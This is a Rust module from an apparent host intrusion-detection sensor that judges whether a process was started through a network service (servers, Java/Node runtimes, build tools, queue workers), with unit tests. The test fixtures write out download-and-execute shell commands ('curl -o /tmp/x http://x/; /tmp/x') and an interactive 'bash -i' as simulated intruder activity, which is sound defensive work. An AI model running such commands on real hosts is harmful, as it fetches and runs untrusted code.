//! Whether a program came through a network service: an intruder may have sent the commands that fetched or started it.
//!
//! The sensor reports listening sockets only of programs that talk to a pool. So the name of a program has to say whether it
//! is a server. Java and Node.js run servers, and also build tools and editors, which fetch and start programs in their
//! own code. An intruder who comes through a server usually starts a shell or a downloader. So below these runtimes, only
//! a shell with commands or a downloader counts.

use super::downloader::is_downloader;
use crate::{
    model::{BootTime, ProcessKey},
    process::{Process, ProcessTable, Role, base_name, installs_packages},
};

/// How a process came through a service.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ServiceEntry {
    /// A server is above it.
    Server,
    /// A runtime started a downloader or a shell with commands, and the process is the shell or below it.
    Commands,
}

/// What the name of a program with the role of a service says about it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Nature {
    /// A server.
    Server,
    /// A runtime, which runs servers and other programs.
    Runtime,
    /// A worker, which takes jobs from a queue or a build file and accepts no connections.
    Worker,
}

/// The programs that take jobs from a queue.
const QUEUE_WORKERS: [&str; 1] = ["celery"];
/// The programs that run servers and other programs.
const RUNTIMES: [&str; 5] = ["java", "node", "nodejs", "dotnet", "beam.smp"];
/// Parts of the arguments of Java servers.
const JAVA_SERVERS: [&str; 7] = [
    "org.apache.catalina.",
    "org.eclipse.jetty.",
    "org.elasticsearch.",
    "org.jboss.",
    "weblogic.Server",
    "activemq.jar",
    "org.apache.activemq.",
];
/// Parts of the arguments of Java build tools.
const JAVA_BUILDS: [&str; 4] =
    ["org.codehaus.plexus.classworlds.", "org.gradle.", "org.apache.tools.ant.", "sbt-launch"];

impl Nature {
    fn of(service: &Process) -> Self {
        let program = base_name(&service.view.executable.path);
        let name = program.trim_end_matches(|last: char| last.is_ascii_digit() || last == '.' || last == '-');
        let has = |parts: &[&str]| {
            let arguments = &service.view.arguments;
            arguments.iter().any(|argument| parts.iter().any(|part| argument.contains(part)))
        };
        let is_java = name == "java";
        if is_queue_worker(service) || (is_java && has(&JAVA_BUILDS)) {
            Self::Worker
        } else if !RUNTIMES.contains(&name) || (is_java && has(&JAVA_SERVERS)) {
            Self::Server
        } else {
            Self::Runtime
        }
    }
}

/// Returns the service that a process came through, and how. `None` if it came through no service.
pub fn service_entry(table: &ProcessTable, key: ProcessKey) -> Option<(ServiceEntry, &Process)> {
    let mut has_commands = false;
    let mut since_below = BootTime(u64::MAX);
    for ancestor in table.ancestry(key) {
        // A start script may end with `exec` of a server. That server did not start the script's earlier children.
        let is_later = ancestor.since > since_below;
        since_below = ancestor.since;
        match ancestor.role {
            _ if is_later => {}
            _ if is_downloader(ancestor) => has_commands = true,
            Role::Shell => has_commands = takes_commands(ancestor),
            Role::Service if ancestor.key() != key => match Nature::of(ancestor) {
                Nature::Server => return Some((ServiceEntry::Server, ancestor)),
                Nature::Runtime if has_commands && !is_below_installer(table, ancestor) => {
                    return Some((ServiceEntry::Commands, ancestor));
                }
                Nature::Runtime | Nature::Worker => {}
            },
            _ => {}
        }
        if ancestor.role.bounds_tree() {
            break;
        }
    }
    None
}

/// Whether a program with this name is a database. Databases have no reason to change what the host starts.
pub fn is_database(name: &str) -> bool {
    const DATABASES: [&str; 10] = [
        "postgres",
        "postmaster",
        "mysqld",
        "mariadbd",
        "mongod",
        "redis-server",
        "valkey-server",
        "keydb-server",
        "clickhouse-server",
        "clickhouse",
    ];
    DATABASES.contains(&name)
}

/// Whether a service takes jobs from a queue, so that it starts shells and downloaders by design.
pub(super) fn is_queue_worker(service: &Process) -> bool {
    let files = [service.script.as_deref(), Some(&*service.view.executable.path)];
    files.into_iter().flatten().any(|file| QUEUE_WORKERS.contains(&base_name(file)))
}

/// Whether a process installs or builds the packages of Node.js. The same program starts servers: `npm start`.
pub(super) fn runs_package_scripts(process: &Process) -> bool {
    let arguments = &process.view.arguments;
    let starts_server = || {
        let mut operands = arguments.iter().skip(2).filter(|argument| !argument.starts_with('-'));
        let name = operands.find(|operand| !matches!(&***operand, "run" | "run-script"));
        name.is_some_and(|name| {
            ["start", "serve", "dev", "prod"].iter().any(|server| name.starts_with(server))
        })
    };
    installs_packages(arguments) && !starts_server()
}

fn is_below_installer(table: &ProcessTable, process: &Process) -> bool {
    let mut above = table.ancestry(process.key()).take_while(|ancestor| !ancestor.role.bounds_tree());
    above.any(runs_package_scripts)
}

/// Whether a shell is told what to do by its arguments or its input, and not by a script.
fn takes_commands(shell: &Process) -> bool {
    let mut options = shell.view.arguments.iter().skip(1).take_while(|argument| argument.starts_with('-'));
    shell.script.is_none() || options.any(|option| !option.starts_with("--") && option.contains('c'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{process::TableLimits, testing::Host};

    type Program<'a> = (&'a str, &'a [&'a str]);

    /// Starts each program as the child of the one before. Returns how the last one came through a service.
    fn entry(programs: &[Program<'_>]) -> Option<ServiceEntry> {
        let mut host = Host::new();
        let mut last = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        for (path, arguments) in programs {
            last = host.spawn(last, path, arguments);
        }
        let mut table = ProcessTable::new(TableLimits::default());
        host.events().iter().for_each(|event| table.apply(event));
        service_entry(&table, last).map(|(entry, _)| entry)
    }

    const SHELL: Program<'_> = ("/usr/bin/dash", &["sh", "-c", "curl -o /tmp/x http://x/; /tmp/x"]);
    const PROGRAM: Program<'_> = ("/tmp/x", &["/tmp/x"]);
    const NODE: Program<'_> = ("/usr/bin/node", &["node", "server.js"]);
    const JAVA: Program<'_> = ("/usr/bin/java", &["java", "-jar", "app.jar"]);

    #[test]
    fn a_server_that_a_start_script_becomes_started_nothing_before() {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        let script = host.spawn(init, "/usr/bin/bash", &["bash", "/opt/app/start.sh"]);
        let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-o", "/opt/app/node", "http://x/"]);
        host.exec(script, init, "/usr/bin/redis-server", "/usr/bin/redis-server", &["redis-server"]);
        let after = host.spawn(script, "/usr/bin/dash", &["sh", "-c", "x"]);
        let mut table = ProcessTable::new(TableLimits::default());
        host.events().iter().for_each(|event| table.apply(event));
        assert!(service_entry(&table, curl).is_none());
        assert!(service_entry(&table, after).is_some());
    }

    #[test]
    fn commands_enter_through_services() {
        let npm: Program<'_> = ("/usr/bin/node", &["node", "/usr/bin/npm", "run", "start"]);
        let server: Program<'_> = ("/usr/bin/dash", &["sh", "-c", "node server.js"]);
        let cases: [(&[Program<'_>], ServiceEntry); 9] = [
            (&[NODE, SHELL], ServiceEntry::Commands),
            (&[NODE, SHELL, PROGRAM], ServiceEntry::Commands),
            (&[JAVA, ("/usr/bin/bash", &["bash", "-i"]), PROGRAM], ServiceEntry::Commands),
            (&[JAVA, ("/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://x/"])], ServiceEntry::Commands),
            (&[npm, server, NODE, SHELL, PROGRAM], ServiceEntry::Commands),
            (
                &[("/usr/bin/java", &["java", "org.apache.catalina.startup.Bootstrap"]), PROGRAM],
                ServiceEntry::Server,
            ),
            (&[("/usr/bin/redis-server", &["redis-server"]), PROGRAM], ServiceEntry::Server),
            (&[("/usr/sbin/php-fpm8.2", &["php-fpm"]), SHELL, PROGRAM], ServiceEntry::Server),
            (&[("/usr/bin/python3", &["python3", "/usr/bin/gunicorn"]), PROGRAM], ServiceEntry::Server),
        ];
        for (programs, expected) in cases {
            assert_eq!(entry(programs), Some(expected), "{programs:?}");
        }
    }

    #[test]
    fn a_runtime_that_starts_programs_itself_is_no_way_in() {
        let npm: Program<'_> = ("/usr/bin/node", &["node", "/usr/bin/npm", "install"]);
        let script: Program<'_> = ("/usr/bin/dash", &["sh", "-c", "node install.js"]);
        let cases: [&[Program<'_>]; 7] = [
            &[NODE, PROGRAM],
            &[JAVA, ("/home/me/.cache/selenium/chromedriver", &["chromedriver"])],
            &[npm, script, ("/usr/bin/node", &["node", "install.js"]), PROGRAM],
            &[npm, script, ("/usr/bin/node", &["node", "install.js"]), SHELL, PROGRAM],
            &[JAVA, ("/usr/bin/bash", &["bash", "/tmp/hadoop-yarn/launch_container.sh"]), PROGRAM],
            &[("/usr/bin/python3", &["python3", "/usr/bin/celery", "-A", "app", "worker"]), SHELL, PROGRAM],
            &[
                ("/usr/bin/java", &["java", "org.gradle.launcher.daemon.bootstrap.GradleDaemon"]),
                SHELL,
                PROGRAM,
            ],
        ];
        for programs in cases {
            assert_eq!(entry(programs), None, "{programs:?}");
        }
    }
}
